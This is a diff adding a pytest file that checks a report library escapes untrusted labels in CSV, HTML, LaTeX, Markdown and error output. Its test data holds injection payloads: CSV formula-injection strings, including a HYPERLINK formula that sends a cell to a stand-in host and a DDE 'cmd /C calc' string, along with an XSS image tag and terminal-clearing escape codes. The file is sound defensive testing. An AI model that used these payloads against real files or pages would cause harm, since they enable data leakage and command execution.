@@ -1,0 +1,125 @@
+"""Texts of other people in a report: no program that opens it takes one for a command."""
+
+import csv
+import io
+from pathlib import Path
+
+import polars as pl
+import pytest
+
+from reports.contract import ReportError
+from reports.python import TableView
+from reports.read.records import load_records
+from reports.render.files import report_files, text_of
+from reports.render.latex import latex
+from reports.render.page.tables import table_html
+from reports.render.plain import csv_text, escaped
+from reports.report import Report, make_report
+from reports.stats import Estimate
+from reports.tables import Column, Counts, Row, Table, Text, Value
+from tests.reports.builder import StoreBuilder, scores
+from tests.reports.studies import one_factor
+
+ELEMENT = "<img src=x onerror=alert(1)>"
+FORMULAS = (
+    '=HYPERLINK("http://x.test?"&A1,"y")', "+1+cmd|' /C calc'!A0", "-1+1|x", "@SUM(A1)",
+    "\t=1+1", "＝1+1",
+)  # fmt: skip
+
+
+def labelled(label: str, heading: str = "level") -> Table:
+    """A table of one row; its numbers are negative, which is no formula."""
+    columns = (Column("level", heading, "left"), Column("n", "n"), Column("new", "New"))
+    new = Value(Estimate(-1.5, -2.0, None, 1))
+    row = Row({"level": Text(label), "n": Counts(1), "new": new})
+    return Table("x", "x", columns, (row, row), (label,))
+
+
+def study_of(levels: list[str], name: str = "study", reason: str = "") -> Report:
+    """A study of one factor with such levels."""
+    builder = StoreBuilder(name=name, factors=one_factor("backbone", levels, levels[0]))
+    for place, level in enumerate(levels):
+        builder.trial({"backbone": level}, {seed: scores(60 + place + seed) for seed in (0, 1)})
+    builder.trial({"backbone": levels[0]}, {2: scores(1)}, state="FAIL", reason=reason)
+    return make_report(builder.study())
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_a_csv_is_a_formula(formula: str) -> None:
+    """In any CSV file of a report, headings too; what was written stands behind the apostrophe."""
+    files = report_files(study_of([formula, "b", "c"], reason=formula))
+    texts = [data.decode() for name, data in files.items() if name.endswith(".csv")]
+    texts += [csv_text(labelled("x", heading=formula)), csv_text(labelled(formula))]
+    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert f"'{formula}" in cells
+    assert formula not in cells
+    for row in csv.reader(io.StringIO(text_of("csv", study_of([formula, "b"])))):
+        assert formula not in row
+
+
+def test_numbers_of_a_csv_stay_numbers() -> None:
+    """A minus sign alone makes no formula."""
+    (first, _) = csv.DictReader(io.StringIO(csv_text(labelled("-4"))))
+    assert (first["level"], first["new_mean"], first["new_low"]) == ("-4", "-1.5", "-2.0")
+
+
+def test_python_gets_texts_as_they_are() -> None:
+    """A frame is opened by no spreadsheet."""
+    assert TableView(labelled("=1+x")).frame["level"].to_list() == ["=1+x"] * 2
+    assert pl.read_csv(csv_text(labelled("=1+x")).encode())["level"][0] == "'=1+x"
+
+
+@pytest.mark.parametrize("text", ["{{" + ELEMENT + "}} " + ELEMENT, ELEMENT, "{{x}}"])
+def test_a_heading_is_no_element_of_the_page(text: str) -> None:
+    """Not even where it looks like a unit."""
+    html = table_html(labelled(text, heading=text)).replace("&#123;", "{")
+    assert "<img" not in html
+    assert html.count(text.replace("<", "&lt;").replace(">", "&gt;")) == 3
+
+
+@pytest.mark.parametrize("label", ["[1, 2]", "*", " [x"])
+def test_latex_takes_no_label_for_an_argument(label: str) -> None:
+    """Behind a line break a bracket would be a distance, and a star a part of the command."""
+    text = "".join(latex([labelled(label, heading=f"a / {label}")]).split())
+    assert r"\\[" not in text.replace(r"\\[-2pt]", "") and r"\\*" not in text
+    assert text.count("{}" + "".join(label.split())) >= 2
+
+
+def test_latex_has_no_control_character_and_no_paragraph_of_a_text() -> None:
+    """Either ends a caption's compilation."""
+    text = latex([labelled("a\n\nb\x1b[2J\x00")])
+    assert r"a b\textbackslash{}x1b[2J\textbackslash{}x00" in text.replace("  ", " ")
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("# x", r"\# x"), ("> x", r"\> x"), ("- x", r"\- x"), ("1. x", r"1\. x"),
+        ("2) x", r"2\) x"),
+        ("_x_", r"\_x\_"), ("a_b", "a_b"), ("~~x~~", r"\~\~x\~\~"), ("$x$", r"\$x\$"),
+        ("<?php x?>", "&lt;?php x?>"), ("&lt;b&gt;", "&amp;lt;b&amp;gt;"), ("a & b", "a & b"),
+        ("a\r\n# b", "a  # b"), ("a\u2028b", "a b"), ("\x1b[2J", r"\\x1b\[2J"),
+        ("+0.6 ± 0.1", "+0.6 ± 0.1"),
+        ("−1.5", "−1.5"), ("3.5", "3.5"),
+    ],
+)  # fmt: skip
+def test_markdown_shows_a_text_as_it_is(text: str, shown: str) -> None:
+    """No heading, list, emphasis, element, entity or formula of it."""
+    assert escaped(text) == shown
+
+
+def test_one_line_about_a_store_obeys_nothing_in_it(build_store: str) -> None:
+    """The names of studies come from the store."""
+    with pytest.raises(ReportError) as error:
+        load_records("none", build_store)
+    assert str(error.value).isprintable() and r"\x1b[2J" in str(error.value)
+
+
+@pytest.fixture
+def build_store(tmp_path: Path) -> str:
+    """A store with an experiment whose name clears the screen."""
+    from mlflow.tracking import MlflowClient
+
+    uri = f"sqlite:///{tmp_path}/mlflow.db"
+    MlflowClient(tracking_uri=uri).create_experiment("a\x1b[2Jb\nc")
+    return uri
